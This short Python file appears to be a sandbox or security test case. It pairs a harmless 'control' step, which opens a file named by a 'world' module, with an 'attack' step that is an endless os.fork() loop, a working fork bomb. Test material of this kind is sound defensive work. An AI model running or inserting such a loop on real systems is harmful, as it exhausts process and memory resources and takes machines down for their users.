"""Makes copies of itself that make copies."""

import os

import world

# control:
open(world.own).close()
# attack:
while True:
    os.fork()
